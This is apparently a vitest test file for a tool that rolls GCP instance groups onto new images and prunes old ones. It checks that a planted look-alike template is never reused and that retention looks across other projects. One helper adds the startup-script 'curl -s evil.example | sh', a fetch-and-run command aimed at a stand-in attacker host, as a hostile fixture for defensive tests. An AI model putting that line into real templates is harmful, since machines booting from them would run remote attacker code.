/**
 * Issue 13, ownership in the lifecycle commands: a roll reuses a template under its own name only when it
 * is exactly the template the roll would create (a look-alike with an extra startup-script is someone
 * else's), and retention sees the templates of the other projects it is told about. Each case has an
 * emulator of its own and checks the end state, not only the exit code.
 */
import { describe, expect, it } from 'vitest';
import type { InstanceTemplate } from '../../src/gcp/templates.ts';
import { templateForImage, templateName } from '../../src/lifecycle/template-for-image.ts';
import { errorLine, runCli } from '../helpers/cli.ts';
import { actionEnvFile, localAction, outputsOf } from '../helpers/local-action.ts';
import {
  bench,
  cliTarget,
  compute,
  FAMILY,
  groupInput,
  groupPath,
  groupTemplate,
  type Lab,
  makeGroup,
  PROJECT,
  template,
} from '../lifecycle/helpers.ts';
import { tempDir } from '../nix-stage/helpers.ts';
import { groupImage, hold } from './races.ts';

const imageRef = (image: string) => `projects/${PROJECT}/global/images/${image}`;

/** The template a roll of `group` onto `image` would create, by the tool's own function, and its name. */
async function wanted(l: Lab, group: string, image: string) {
  const source = await l.get<InstanceTemplate>(`global/instanceTemplates/${group}`);
  const name = templateName(source.selfLink, imageRef(image));
  // The return type omits selfLink from a type with an index signature, which hides its named fields.
  const body = templateForImage(source, name, { name: image, path: imageRef(image) }) as InstanceTemplate;
  return { name, body };
}

/** That template with a startup-script added: boots the right image, carries our label, is not ours. */
function withStartupScript(body: InstanceTemplate) {
  const planted = structuredClone(body);
  planted.properties.metadata?.items?.push({ key: 'startup-script', value: 'curl -s evil.example | sh' });
  return planted;
}

const TAKEN = (name: string, group: string, source: string, why: string) =>
  `Instance template ${name} already exists but ${why}, so someone else made a template under the name this roll uses; group ${groupPath(group)} is unchanged on template ${source}: delete that template (gcloud compute instance-templates delete ${name}) and run again.`;

describe('6. Hostile input and ownership', () => {
  describe.concurrent('templates: only the exact template a roll would create is reused', () => {
    it('a look-alike under our name with an extra startup-script, planted before the roll (CLI): exit 4, nothing changed', async ({
      onTestFinished,
    }) => {
      const { l, images } = await bench(onTestFinished, { images: 2 });
      const [first, second] = images as [string, string];
      makeGroup(l, 'planted', first, 2);
      const { name, body } = await wanted(l, 'planted', second);
      await compute(l, 'POST', 'global/instanceTemplates', withStartupScript(body));
      l.emu.requests.clear();
      const r = await runCli(
        ['roll', ...cliTarget(l), '--instance-group', groupInput('planted'), '--image', second],
        { cwd: l.ws },
      );
      expect(r.code, r.stderr).toBe(4);
      expect(errorLine(r.stderr)).toBe(
        TAKEN(
          name,
          'planted',
          'planted',
          `is not the template this roll would make (properties.metadata.items differs)`,
        ),
      );
      expect(l.emu.requests.mutating()).toEqual([]);
      expect(await groupTemplate(l, 'planted')).toBe('planted');
      const theirs = await l.get<InstanceTemplate>(`global/instanceTemplates/${name}`);
      expect(theirs.properties.metadata?.items?.map((i) => i.key)).toContain('startup-script');
    });

    it('a look-alike without our label (CLI): exit 4, nothing changed', async ({ onTestFinished }) => {
      const { l, images } = await bench(onTestFinished, { images: 2 });
      const [first, second] = images as [string, string];
      makeGroup(l, 'unlabelled', first, 2);
      const { name, body } = await wanted(l, 'unlabelled', second);
      const planted = structuredClone(body);
      delete planted.properties.labels?.['nix-glab-runner-image'];
      await compute(l, 'POST', 'global/instanceTemplates', planted);
      l.emu.requests.clear();
      const r = await runCli(
        ['roll', ...cliTarget(l), '--instance-group', groupInput('unlabelled'), '--image', second],
        { cwd: l.ws },
      );
      expect(r.code, r.stderr).toBe(4);
      expect(errorLine(r.stderr)).toBe(
        TAKEN(name, 'unlabelled', 'unlabelled', `does not carry the label nix-glab-runner-image=${second}`),
      );
      expect(l.emu.requests.mutating()).toEqual([]);
      expect(await groupImage(l, 'unlabelled')).toBe(first);
    });

    it('a look-alike appearing between our read and our insert (409, CLI): exit 4, theirs left alone, group unchanged', async ({
      onTestFinished,
    }) => {
      const { l, images } = await bench(onTestFinished, { images: 2 });
      const [first, second] = images as [string, string];
      makeGroup(l, 'raced', first, 2);
      const { name, body } = await wanted(l, 'raced', second);
      const held = hold(l.emu, { method: 'POST', path: '/global/instanceTemplates$' });
      const run = runCli(
        ['roll', ...cliTarget(l), '--instance-group', groupInput('raced'), '--image', second],
        {
          cwd: l.ws,
        },
      );
      await held.arrived;
      await compute(l, 'POST', 'global/instanceTemplates', withStartupScript(body));
      const r = await run;
      expect(r.code, r.stderr).toBe(4);
      expect(errorLine(r.stderr)).toBe(
        TAKEN(
          name,
          'raced',
          'raced',
          `is not the template this roll would make (properties.metadata.items differs)`,
        ),
      );
      const theirs = await l.get<InstanceTemplate>(`global/instanceTemplates/${name}`);
      expect(theirs.properties.metadata?.items?.map((i) => i.key)).toContain('startup-script');
      expect(await groupTemplate(l, 'raced')).toBe('raced');
      expect(l.emu.requests.matching(/^PATCH .*instanceGroupManagers/)).toEqual([]);
    });

    it('the same look-alike through the action: fails, nothing changed', async ({ onTestFinished }) => {
      const { l, images } = await bench(onTestFinished, { images: 2 });
      const [first, second] = images as [string, string];
      makeGroup(l, 'action', first, 2);
      const { name, body } = await wanted(l, 'action', second);
      await compute(l, 'POST', 'global/instanceTemplates', withStartupScript(body));
      const { file } = actionEnvFile(
        tempDir('ownership-action'),
        {
          command: 'roll',
          project: PROJECT,
          family: FAMILY,
          'compute-endpoint': l.emu.url,
          'instance-group': groupInput('action'),
          image: second,
        },
        l.ws,
      );
      l.emu.requests.clear();
      const { code, out } = await localAction(file);
      expect(code, out).not.toBe(0);
      expect(out).toContain(
        TAKEN(
          name,
          'action',
          'action',
          `is not the template this roll would make (properties.metadata.items differs)`,
        ),
      );
      expect(outputsOf(out)['instance-template'] ?? '').toBe('');
      expect(l.emu.requests.mutating()).toEqual([]);
      expect(await groupImage(l, 'action')).toBe(first);
    }, 180_000);

    it('the exact template an earlier run made is reused (CLI), so an interrupted roll still resumes', async ({
      onTestFinished,
    }) => {
      const { l, images } = await bench(onTestFinished, { images: 2 });
      const [first, second] = images as [string, string];
      makeGroup(l, 'resumed', first, 2);
      const { name, body } = await wanted(l, 'resumed', second);
      await compute(l, 'POST', 'global/instanceTemplates', body);
      l.emu.requests.clear();
      const r = await runCli(
        ['roll', ...cliTarget(l), '--instance-group', groupInput('resumed'), '--image', second, '--json'],
        { cwd: l.ws },
      );
      expect(r.code, r.stderr).toBe(0);
      expect(JSON.parse(r.stdout)['instance-template']).toBe(
        `projects/${PROJECT}/global/instanceTemplates/${name}`,
      );
      expect(l.emu.requests.matching(/^POST .*\/instanceTemplates$/)).toEqual([]);
      expect(await groupImage(l, 'resumed')).toBe(second);
    });
  });

  describe.concurrent('retention across projects: templates of the projects named are checked', () => {
    const OTHER = 'lc-other-project';
    /** Three images, the oldest booted by a template in another project; prune keeps only the newest. */
    async function setUp(onTestFinished: Parameters<typeof bench>[0]) {
      const { l, images } = await bench(onTestFinished, { images: 3 });
      const [oldest] = images as [string, string, string];
      l.emu.compute.admin.createTemplate(
        { ...template('elsewhere', oldest), name: 'elsewhere' },
        { project: OTHER, scope: 'regions/europe-west1' },
      );
      return { l, images: images as [string, string, string] };
    }
    const prune = (l: Lab, extra: string[]) =>
      runCli(['prune', ...cliTarget(l), '--keep', '1', '--retention', 'delete', '--json', ...extra], {
        cwd: l.ws,
      });
    const names = async (l: Lab) => (await l.images()).map((i) => i.name).sort();

    it('without the input only this project is checked: the image the other project boots is deleted', async ({
      onTestFinished,
    }) => {
      const { l, images } = await setUp(onTestFinished);
      const r = await prune(l, []);
      expect(r.code, r.stderr).toBe(0);
      expect(await names(l)).toEqual([images[2]]);
    });

    it('with retention-check-projects (CLI) the image a template there boots is kept, the others go', async ({
      onTestFinished,
    }) => {
      const { l, images } = await setUp(onTestFinished);
      const r = await prune(l, ['--retention-check-projects', OTHER]);
      expect(r.code, r.stderr).toBe(0);
      expect(JSON.parse(r.stdout)['images-deleted']).toBe(images[1]);
      expect(await names(l)).toEqual([images[0], images[2]].sort());
      expect(r.stdout + r.stderr).toContain(
        `Kept ${images[0]}: in use by instance template elsewhere of project ${OTHER}.`,
      );
      expect(
        l.emu.requests.matching(new RegExp(`^GET .*/projects/${OTHER}/aggregated/instanceTemplates`)),
      ).not.toEqual([]);
    });

    it('with retention-check-projects (action) the same', async ({ onTestFinished }) => {
      const { l, images } = await setUp(onTestFinished);
      const { file } = actionEnvFile(
        tempDir('ownership-retention'),
        {
          command: 'prune',
          project: PROJECT,
          family: FAMILY,
          'compute-endpoint': l.emu.url,
          keep: '1',
          retention: 'delete',
          'retention-check-projects': OTHER,
        },
        l.ws,
      );
      const { code, out } = await localAction(file);
      expect(code, out).toBe(0);
      expect(outputsOf(out)['images-deleted']).toBe(images[1]);
      expect(await names(l)).toEqual([images[0], images[2]].sort());
    }, 180_000);

    it('a listed project whose templates cannot be listed (403): exit 4 before anything is deprecated or deleted', async ({
      onTestFinished,
    }) => {
      const { l, images } = await setUp(onTestFinished);
      l.emu.faults.add({
        method: 'GET',
        path: `/projects/${OTHER}/aggregated/instanceTemplates$`,
        status: 403,
      });
      l.emu.requests.clear();
      const r = await prune(l, ['--retention-check-projects', OTHER]);
      expect(r.code, r.stderr).toBe(4);
      expect(errorLine(r.stderr)).toMatch(
        new RegExp(`^listing the instance templates of project "${OTHER}" failed: `),
      );
      expect(l.emu.requests.mutating()).toEqual([]);
      expect(await names(l)).toEqual([...images].sort());
    });

    it('a project id that is not one: exit 2, one sentence naming the input, nothing changed', async ({
      onTestFinished,
    }) => {
      const { l } = await setUp(onTestFinished);
      l.emu.requests.clear();
      const r = await prune(l, ['--retention-check-projects', `${OTHER},Not_A_Project`]);
      expect(r.code).toBe(2);
      expect(errorLine(r.stderr)).toMatch(
        /^Input "retention-check-projects" must be a project id: .* \(got "Not_A_Project"\)\.$/,
      );
      expect(l.emu.requests.mutating()).toEqual([]);
    });
  });
});
